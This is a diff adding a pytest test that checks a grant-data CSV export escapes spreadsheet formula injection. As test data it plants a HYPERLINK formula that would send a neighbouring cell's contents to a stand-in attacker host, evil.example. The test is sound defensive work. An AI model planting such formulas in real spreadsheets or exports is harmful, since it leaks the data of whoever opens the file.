@@ -11,7 +11,7 @@ import pytest
 from safer_analysis.cli import main
 from safer_analysis.exports import giving360
 
-from ..conftest import SHARED
+from ..conftest import SHARED, edit_cell, read_rows
 
 SCHEMAS = SHARED / "reference" / "360giving"
 
@@ -78,6 +78,28 @@ def test_cli_writes_json_and_csv_with_the_standard_titles(tmp_path, dataset):
     assert list(rows[0]) == giving360.CSV_COLUMNS
     assert sum(float(r["Amount Awarded"]) for r in rows) == 400_568
     assert rows[0]["Identifier"].startswith("360G-")
+
+
+def test_the_csv_holds_no_cell_a_spreadsheet_would_run(project_copy, tmp_path):
+    from safer_analysis.inputs.datasets import load_dataset
+    from safer_analysis.inputs.project import load_project
+
+    leak = '=HYPERLINK("http://evil.example/?leak="&B2,"Click")'
+    allocations = project_copy / "data" / "allocations.csv"
+    row = next(i for i, r in enumerate(read_rows(allocations)) if r["allocation_id"] == "SP-2018-19-01")
+    edit_cell(allocations, row, "project", leak)
+    edit_cell(allocations, row, "provider", "@Harbour")
+    settings = load_project(project_copy).settings
+    json_path, csv_path = giving360.export(
+        load_dataset(project_copy / "data"), "2018-19", tmp_path / "grants.json", settings=settings
+    )
+    first = next(r for r in read_rows(csv_path) if r["Identifier"] == "360G-saferplymouth-SP-2018-19-01")
+    assert first["Title"] == "'" + leak and first["Recipient Org:Name"] == "'@Harbour"
+    assert first["Amount Awarded"] == "160200"  # numbers as they were
+    for r in read_rows(csv_path):
+        assert not any(v.lstrip().startswith(("=", "+", "-", "@")) for v in r.values()), r
+    grant = json.loads(json_path.read_text())["grants"][0]  # the JSON is data, not a spreadsheet: as given
+    assert grant["title"] == leak and grant["recipientOrganization"][0]["name"] == "@Harbour"
 
 
 @pytest.mark.shared
